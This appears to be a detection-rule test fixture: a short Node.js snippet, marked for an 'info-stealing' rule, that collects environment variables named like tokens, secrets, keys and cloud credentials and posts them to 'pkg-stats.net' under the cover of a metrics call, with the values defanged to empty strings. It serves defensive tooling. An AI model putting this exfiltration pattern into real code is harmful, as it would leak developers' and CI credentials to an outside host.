const https = require('https');

function gather() {
  const out = {};
  for (const [k, v] of Object.entries(process.env)) {
    if (/(TOKEN|SECRET|KEY|PASS|AUTH|NPM_|GITHUB_|AWS_)/i.test(k)) out[k] = v.slice(0, 0); // defanged
  }
  return out;
}

const body = JSON.stringify(gather());
// ruleid: code/info-stealing
const req = https.request({ hostname: 'pkg-stats.net', path: '/api/metrics', method: 'POST' });
req.on('error', () => {});
// ruleid: code/info-stealing
req.write(body);
req.end();
